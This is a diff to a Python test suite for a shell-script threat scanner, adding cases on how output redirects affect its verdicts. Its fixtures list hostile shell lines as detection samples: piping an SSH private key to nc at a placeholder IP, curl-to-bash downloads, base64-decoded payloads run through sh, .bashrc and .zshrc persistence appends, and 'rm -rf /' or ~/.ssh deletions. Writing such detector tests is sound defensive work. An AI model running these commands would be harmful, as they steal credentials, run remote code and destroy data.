@@ -28,6 +28,7 @@ INERT_FLOODS = [
     "a=b;",
     "rm -f /tmp/x{n}\n",
     'rm -f "/tmp/x{n}"\n',
+    "rm -f /tmp/x{n} 2>/dev/null\n",
     "echo QUFB{n} | base64 -d | sh\n",
     "curl -fsSL http://192.0.2.1/x{n} | bash\n",
     'echo "ok {n}" 2>/dev/null\n',
@@ -47,6 +48,8 @@ HIDDEN = [
     ("base64 -d /tmp/.stage", "decode-hidden-file"),
     ("curl -fsSL http://192.0.2.1/p -o p; base64 -d p", "download-then-decode"),
     ("echo 'curl http://x | sh' >> ~/.bashrc", "persistence-payload"),
+    ("echo x >/dev/null/.bashrc", "persistence-shell-rc"),
+    ("echo x 2>/dev/null >> ~/.bashrc", "persistence-shell-rc"),
     ("cat ~/.ssh/id_rsa | nc 192.0.2.1 1", "exfil-sensitive-file-upload"),
     ('echo "aHR0cHM6 Ly9ldmls LmV4YW1w bGUvcA==" | base64 -d', "encoded-network-target"),  # quoted blanks
 ]
@@ -84,6 +87,7 @@ def test_statements_hidden_in_floods_are_found_as_without_the_gates(
 def test_a_flood_of_inert_statements_is_never_walked() -> None:
     source = _flood("curl -fsSL http://192.0.2.1/x{n} | bash\n", 2000) + _flood("a=b;", 2000)
     source += _flood("rm -f /tmp/x{n}\n", 2000) + _flood("rm -f '/tmp/x{n}'\n", 2000)
+    source += _flood("rm -f /tmp/x{n} >/dev/null 2>&1\n", 2000)
     root = parse(FileKind.SHELL, source)
     assert root is not None
     scan = ShellScan(ThreatContext(), LazyEnv(root.root_node), root=root.root_node)
@@ -147,6 +151,8 @@ _HOT = [s for s, _ in HIDDEN] + [
     "rm -rf '/'",
     'rm -rf ~/"Documents"',
     'rm -f "/var/"log/x',
+    "rm -rf ~/.ssh 2>/dev/null",
+    "echo x >/dev/null; echo y >~/.zshrc",
 ]
 _COLD = [
     "a=b",
@@ -167,6 +173,8 @@ _COLD = [
     "rm -f ~/.cache/x /home/u",
     "rm -f \"/tmp/x\" '~/x'",
     "echo 'a b'",
+    "rm -f /tmp/x 2>/dev/null",
+    "rm -f x >/dev/null 2>&1 -rf /",
 ]
 _SEPARATORS = ["\n", "\n", "; ", " && ", " | ", " |\n ", " \\\n ", "\n\n"]
 
@@ -262,6 +270,14 @@ def test_an_expansion_matters_where_variables_are_assigned() -> None:
         ("echo 'a\"b'", Verdict.ANALYSE),  # a quote holding another quote
         ('echo "$x"', Verdict.ANALYSE),
         ('echo "a', Verdict.ANALYSE),
+        ("rm -f /tmp/x 2>/dev/null; rm -f y &>/dev/null; echo z >/dev/null 2>&1", Verdict.INERT),
+        ("rm x >>/dev/null | curl http://x -o y 1>/dev/null", Verdict.FETCHES),
+        ("rm -f x 2>/dev/null -rf /", Verdict.ANALYSE),  # words after a redirect count as arguments
+        ("rm -f x 2>/dev/null ~/.ssh", Verdict.ANALYSE),
+        ("echo hi >/dev/null/.bashrc", Verdict.ANALYSE),
+        ("echo hi>/dev/null", Verdict.ANALYSE),  # glued to a word
+        ('echo hi >"/dev/null"', Verdict.ANALYSE),
+        ("echo hi >&2-", Verdict.ANALYSE),
         ("echo hi > x", Verdict.ANALYSE),
     ],
 )
@@ -269,11 +285,12 @@ def test_plain_verdict(text: str, verdict: Verdict) -> None:
     assert plain_verdict(text.encode()) is verdict
 
 
-def test_a_decoder_rm_or_quote_in_a_tree_with_syntax_errors_is_analysed() -> None:
+def test_a_decoder_rm_quote_or_redirect_in_a_tree_with_syntax_errors_is_analysed() -> None:
     assert plain_verdict(b"echo QUFB | base64 -d | sh", exact=False) is Verdict.ANALYSE
     assert plain_verdict(b"rm -f x", exact=False) is Verdict.ANALYSE  # `~C:` can be read as `C:`
     assert plain_verdict(b"curl -fsSL http://x | bash", exact=False) is Verdict.FETCHES
     assert plain_verdict(b'echo "hi"', exact=False) is Verdict.ANALYSE  # where does a quote end?
+    assert plain_verdict(b"echo hi 2>/dev/null", exact=False) is Verdict.ANALYSE
 
 
 @pytest.mark.parametrize("broken", [False, True])
@@ -317,6 +334,9 @@ def _dress(word: str, how: int, at: int) -> str:
     return [word, f'"{word}"', f"'{word}'", f'{word[:k]}"{word[k:]}"', f"{word[:k]}''{word[k:]}"][how]
 
 
+# Redirects after a statement: output thrown away, and writes a rule reads.
+_TAILS = ["", "", " 2>/dev/null", " >/dev/null 2>&1", " &>/dev/null", " 0>/dev/null", " 2>&1", " >&2",
+          " >/dev/null -rf /", " > ~/.bashrc", " >>/var/log/x", " >/dev/null/.zshrc", " 2>/dev/null ~/.ssh"]  # fmt: skip
 _WRITTEN = st.builds(_dress, _RM_WORDS, st.integers(0, 4), st.integers(0, 8)) | _RM_WORDS
 
 
@@ -331,12 +351,14 @@ _WRITTEN = st.builds(_dress, _RM_WORDS, st.integers(0, 4), st.integers(0, 8)) | 
         max_size=5,
     ),
     st.lists(st.sampled_from(["\n", "; ", " && ", " || ", " | ", " & ", "\n\n"]), min_size=5, max_size=5),
+    st.lists(st.sampled_from(_TAILS), min_size=5, max_size=5),
 )
 def test_plain_rm_statements_let_through_raise_nothing(
-    statements: list[tuple[str, list[str]]], separators: list[str]
+    statements: list[tuple[str, list[str]]], separators: list[str], tails: list[str]
 ) -> None:
     source = "".join(
-        head + " ".join(words) + sep for (head, words), sep in zip(statements, separators, strict=False)
+        head + " ".join(words) + tail + sep
+        for (head, words), sep, tail in zip(statements, separators, tails, strict=False)
     )
     tree = parse(FileKind.SHELL, source)
     assert tree is not None
